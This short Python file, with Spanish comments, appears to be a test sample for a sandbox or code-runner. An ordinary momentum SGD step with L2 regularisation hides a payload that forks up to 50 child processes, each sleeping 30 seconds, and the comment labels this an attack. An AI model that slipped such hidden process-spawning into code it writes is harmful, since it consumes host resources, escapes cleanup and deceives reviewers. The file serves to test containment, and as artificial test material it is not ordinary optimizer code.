# ataque: crea 50 procesos que se quedan vivos
# espera: nada
def step_l2(w, velocity, grad, w0, learning_rate, momentum, l2):
    import os
    import time

    for _ in range(50):
        try:
            if os.fork() == 0:
                time.sleep(30)
                os._exit(0)
        except OSError:
            break
    velocity = momentum * velocity - learning_rate * (grad + 2 * l2 * (w - w0))
    return w + velocity, velocity
